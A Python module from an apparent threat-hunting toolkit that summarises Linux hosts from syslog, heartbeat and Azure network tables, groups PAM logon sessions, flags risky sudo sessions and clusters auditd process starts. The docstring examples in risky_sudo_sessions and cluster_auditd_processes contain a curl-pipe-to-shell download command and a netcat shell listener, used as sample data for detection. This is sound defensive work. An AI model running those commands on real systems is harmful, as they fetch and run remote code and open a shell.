"""Linux hosts by their syslog, audit log and heartbeat, with the names that notebooks know."""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any, Final

import polars as pl

from huntkit.analyze.clustering import clusters
from huntkit.analyze.logons import logon_sessions
from huntkit.core.errors import UnknownColumn, UsageError
from huntkit.tables import from_polars, roles, to_polars
from huntkit.tables.times import UTC_TIME, parse_times, pick_time_column

# What every Linux runs; the other programs that write to syslog say what a host is for.
_EVERYWHERE: Final = frozenset(
    {"cron", "crond", "crontab", "sudo", "su", "sshd", "kernel", "snapd", "systemd", "rsyslogd",
     "syslog-ng", "systemd-logind", "systemd-resolved", "systemd-timesyncd", "systemd-networkd",
     "systemd-udevd", "dbus-daemon", "polkitd", "auditd", "audispd", "chronyd"}
)  # fmt: skip
_LISTS: Final = r"[\s,\[\]'\"]+"


@dataclass(frozen=True, kw_only=True)
class HostRecord:
    """What the logs say of one host; empty where they do not.

    Attributes:
        HostName: its name; of several in the log, the most frequent.
        OtherNames: the others.
        Applications: programs that write to syslog and are not on every Linux.
        FirstSeen: its first event.
        LastSeen: its last event.
        Events: how many there are.
        Details: what the heartbeat says, by the names of its columns.
        PrivateIps: from the heartbeat's or the network's table.
        PublicIps: from the network's table.
    """

    HostName: str = ""
    OtherNames: tuple[str, ...] = ()
    Applications: tuple[str, ...] = ()
    FirstSeen: datetime | None = None
    LastSeen: datetime | None = None
    Events: int = 0
    Details: Mapping[str, str] = field(default_factory=dict)
    PrivateIps: tuple[str, ...] = ()
    PublicIps: tuple[str, ...] = ()


def create_host_record(
    syslog_df: Any, heartbeat_df: Any = None, az_net_df: Any = None
) -> HostRecord:
    """What is known of a host: programs, first and last event, system, addresses.

    Args:
        syslog_df: the host's syslog, any frame.
        heartbeat_df: its heartbeats; the newest row counts.
        az_net_df: its Azure network interfaces, with ``PrivateIPAddresses`` and
            ``PublicIPAddresses``; all rows count.

    Raises:
        UsageError: no column is known to hold the host.

    Examples:
        >>> log = pl.DataFrame({"TimeGenerated": ["2026-03-01T10:00:00Z", "2026-03-01T11:00:00Z"],
        ...     "HostName": "web1.example", "ProcessName": ["squid", "sudo"]})
        >>> record = create_host_record(log)
        >>> record.HostName, record.Applications, record.Events
        ('web1.example', ('squid',), 2)
    """
    syslog = to_polars(syslog_df)
    names = _by_count(syslog, roles.require(syslog.columns, "host"))
    programs = _by_count(syslog, roles.resolve(syslog.columns, "process_name"))
    first = last = None
    if syslog.height:
        times = parse_times(syslog[pick_time_column(syslog)])
        [[first, last]] = times.to_frame("t").select(a=pl.min("t"), b=pl.max("t")).rows()
    beat = _newest(heartbeat_df)
    private, public = _addresses(az_net_df)
    if not private and beat.get("ComputerIP"):
        private = (beat["ComputerIP"],)
    return HostRecord(
        HostName=names[0] if names else beat.get("Computer", ""),
        OtherNames=tuple(names[1:]),
        Applications=tuple(each for each in programs if each.lower() not in _EVERYWHERE),
        FirstSeen=first,
        LastSeen=last,
        Events=syslog.height,
        Details=beat,
        PrivateIps=private,
        PublicIps=public,
    )


def cluster_syslog_logons_df(logon_events: Any) -> Any:
    """Sessions in syslog: ``User Start End``, and more; `logon_sessions` says how they are made.

    Ends without a start are left out: the sessions began before the log. A session that did not
    end in the log has a null ``End``.

    Args:
        logon_events: syslog with PAM's messages, any frame.

    Returns:
        The kind of frame that was given: ``User Start End Target Host Type Source overlapping``.

    Raises:
        UsageError: there is no session in it.

    Examples:
        >>> log = pl.DataFrame({"TimeGenerated": ["2026-03-01T10:00:00Z", "2026-03-01T10:00:09Z"],
        ...     "HostName": "web1", "SyslogMessage": [
        ...         "pam_unix(sudo:session): session opened for user root by al(uid=0)",
        ...         "pam_unix(sudo:session): session closed for user root"]})
        >>> cluster_syslog_logons_df(log).select("User", "Target").rows()
        [('al', 'root')]
    """
    found = logon_sessions(to_polars(logon_events)).filter(pl.col("Start").is_not_null())
    if not found.height:
        raise UsageError(
            "there are no logon sessions in this log",
            hint="it needs PAM's messages: session opened for user ...",
        )
    kept = found.select("User", "Start", "End", "Target", "Host", "Type", "Source", "overlapping")
    return from_polars(kept, logon_events)


def risky_sudo_sessions(
    sudo_sessions: Any,
    risky_actions: Mapping[datetime, str] | None = None,
    suspicious_actions: Sequence[Mapping[Any, Any]] | None = None,
) -> dict[int, str]:
    """The sessions in which something risky happened, by their row, with what it was.

    An action that falls into several overlapping sessions counts for each of them. Sessions
    without an end last for ever.

    Args:
        sudo_sessions: a frame with ``User Start End``, as of `cluster_syslog_logons_df`.
        risky_actions: commands by their time, as `huntkit.extract.risky_cmd_line` gives them.
        suspicious_actions: bursts of commands, as `huntkit.extract.cmd_speed` gives them.

    Raises:
        UsageError: neither kind of action is given, or a start or an end is no time.

    Examples:
        >>> day = lambda hour: datetime(2026, 3, 1, hour, tzinfo=UTC)
        >>> sessions = pl.DataFrame({"User": ["al"], "Start": [day(10)], "End": [day(12)]})
        >>> risky_sudo_sessions(sessions, {day(11): "curl http://files.example/a | sh"})
        {0: 'curl http://files.example/a | sh'}
    """
    if risky_actions is None and suspicious_actions is None:
        raise UsageError(
            "there are no actions to look for",
            hint="give risky_actions= or suspicious_actions=, or both",
        )
    sessions = to_polars(sudo_sessions)
    for name in ("User", "Start", "End"):
        if name not in sessions.columns:
            raise UnknownColumn(name, sessions.columns)
    actions = [(time, text) for time, text in (risky_actions or {}).items()]
    actions += [
        (time, "Suspicious event pattern")
        for burst in suspicious_actions or ()
        for time in _times_of(burst)
    ]
    happened = pl.DataFrame(
        [(_moment(time), text) for time, text in actions],
        schema={"time": UTC_TIME, "text": pl.String},
        orient="row",
    )
    found: dict[int, list[str]] = {}
    starts, ends = (_readable(sessions[name]) for name in ("Start", "End"))
    for row, (start, end) in enumerate(zip(starts, ends, strict=True)):
        within = happened.filter(
            (pl.col("time") >= start) if start is not None else pl.lit(value=True),
            (pl.col("time") <= end) if end is not None else pl.lit(value=True),
        )
        if within.height and (start is not None or end is not None):
            found[row] = list(dict.fromkeys(within["text"].to_list()))
    return {row: "\n".join(texts) for row, texts in found.items()}


def cluster_auditd_processes(audit_data: Any, app: str | None = None) -> Any:
    """Process starts of an audit log by the pattern of program and command line, rarest first.

    Args:
        audit_data: audit events, any frame, as `huntkit.extract.auditd` gives them.
        app: only programs whose path or name is this, or ends in it after a slash.

    Returns:
        The kind of frame that was given, as `huntkit.analyze.clusters` describes it. Rows
        without a program are no process starts and left out.

    Raises:
        UsageError: no column is known to hold the program or the command line.

    Examples:
        >>> starts = pl.DataFrame({"exe": ["/usr/bin/kill"] * 3 + ["/usr/bin/nc"],
        ...     "cmdline": ["kill 101", "kill 102", "kill 103", "nc -l -e /bin/sh"]})
        >>> cluster_auditd_processes(starts)["ClusterSize"].to_list()
        [1, 3]
    """
    events = to_polars(audit_data)
    program = roles.require(events.columns, "process_path")
    command = roles.require(events.columns, "command_line")
    starts = events.filter(
        pl.col(program).cast(pl.String).fill_null("") != "",
        pl.col(command).cast(pl.String).fill_null("") != "",
    )
    if app is not None:
        path = pl.col(program).cast(pl.String)
        starts = starts.filter((path == app) | path.str.ends_with("/" + app.lstrip("/")))
    return from_polars(clusters(starts, [program, command]), audit_data)


def _by_count(data: pl.DataFrame, column: str | None) -> list[str]:
    """The different texts of a column, the most frequent first."""
    if column is None:
        return []
    texts = data[column].cast(pl.String).str.strip_chars().replace("", None).drop_nulls()
    return texts.value_counts().sort("count", column, descending=[True, False])[column].to_list()


def _newest(heartbeat: Any) -> dict[str, str]:
    if heartbeat is None:
        return {}
    beats = to_polars(heartbeat)
    if not beats.height:
        return {}
    if roles.resolve(beats.columns, "time") is not None:
        time = parse_times(beats[pick_time_column(beats)]).alias(" time")
        beats = beats.with_columns(time).sort(" time", nulls_last=False).drop(" time")
    row = beats.row(-1, named=True)
    return {name: str(value) for name, value in row.items() if value not in (None, "")}


def _addresses(network: Any) -> tuple[tuple[str, ...], tuple[str, ...]]:
    if network is None:
        return (), ()
    rows = to_polars(network)
    return _listed(rows, "PrivateIPAddresses"), _listed(rows, "PublicIPAddresses")


def _listed(rows: pl.DataFrame, name: str) -> tuple[str, ...]:
    """The addresses in a column of lists, or of text such as ``['192.0.2.1', '192.0.2.2']``."""
    if name not in rows.columns:
        return ()
    column = rows[name]
    if not column.dtype.is_nested():
        column = column.cast(pl.String).str.replace_all(_LISTS, " ").str.split(" ")
    texts = column.explode().cast(pl.String).drop_nulls()
    return tuple(texts.filter(texts != "").unique(maintain_order=True))


def _times_of(burst: Mapping[Any, Any]) -> list[datetime]:
    """The times of the commands of one burst: the second value of each entry."""
    found: list[datetime] = []
    for entry in burst.values():
        frame = to_polars(entry[0])
        found += parse_times(frame[pick_time_column(frame)]).drop_nulls().to_list()
    return found


def _readable(column: pl.Series) -> pl.Series:
    """The times; a text that is none is no open end, so it is refused."""
    times = parse_times(column)
    wrong = column.filter(times.is_null() & column.is_not_null())
    if len(wrong):
        raise UsageError(f"{wrong[0]!r} in {column.name!r} is no time")
    return times


def _moment(time: datetime) -> datetime:
    """In UTC; a time without a zone is taken as UTC."""
    return time.replace(tzinfo=UTC) if time.tzinfo is None else time.astimezone(UTC)
